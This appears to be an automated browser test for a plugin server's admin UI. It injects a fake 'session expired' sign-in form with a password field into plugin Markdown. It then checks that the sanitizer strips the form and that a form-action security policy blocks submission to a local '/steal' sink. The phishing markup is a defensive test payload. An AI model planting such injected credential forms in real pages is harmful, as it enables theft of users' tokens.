import assert from 'node:assert/strict'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { installPluginFromPath } from '@plugin-server/management'
import { AdminFleet, startAdminFleet } from '../admin-api/admin-fleet'
import { launchBrowser, login } from '../harness/browser'
import { writePlugin } from '../harness/plugins'

describe('admin UI: forms in plugin.json Markdown', function () {
  this.timeout(180_000)
  let f: AdminFleet
  let sink: http.Server
  const hits: string[] = []
  let sinkUrl: string

  before(async () => {
    f = await startAdminFleet(['capture'])
    sink = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`)
      res.end('got it')
    })
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve))
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/steal`
  })
  after(async () => {
    await f?.close()
    sink?.close()
  })

  it('shows a form and its controls from Markdown as text only, and the page lets no form submit anywhere', async () => {
    const markdown = `Your session expired. <form action="${sinkUrl}" method="get"><input name="token" type="password" id="phish" value="typed-token"><button id="phish-go" type="submit">Sign in again</button><select id="phish-select"></select><textarea id="phish-text"></textarea></form><style>body { display: none }</style>`
    const dir = writePlugin('phish-markdown', 'export function processEvent(e) { return e }', [{ markdown }, { key: 'k', name: 'K', type: 'string' }])
    const installed = await installPluginFromPath(f.management, dir)
    const browser = await launchBrowser()
    try {
      const page = await browser.newPage()
      await page.goto(`${f.fleet.captureUrl}/admin/`)
      await login(page, f.teamToken)
      await page.goto(`${f.fleet.captureUrl}/admin/#/plugins/${installed.plugin.id}`)
      const block = page.getByTestId('plugin-config-schema').locator('.markdown').first()
      await block.getByText('Your session expired.').waitFor({ timeout: 20_000 })
      assert.equal(await block.locator('form, input, button, select, textarea, style').count(), 0, await block.innerHTML())

      // The second line, should the sanitizer ever let one through: the policy blocks any form submission.
      // Other reports may arrive meanwhile: DOMPurify's parse of the Markdown's <style> is itself refused
      // (style-src-elem) whenever the page renders it again. Only the form's report answers.
      const blocked = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => {
          if (e.violatedDirective === 'form-action') resolve(e.blockedURI)
        })
        setTimeout(() => resolve('no form-action report in 20 s'), 20000)
        const form = document.createElement('form')
        form.action = ${JSON.stringify(sinkUrl)}
        form.method = 'get'
        document.body.appendChild(form)
        form.submit()
      })`)
      assert.ok(String(blocked).startsWith(sinkUrl), String(blocked))
      assert.deepEqual(hits, [])
    } finally {
      await browser.close()
    }
  })
})
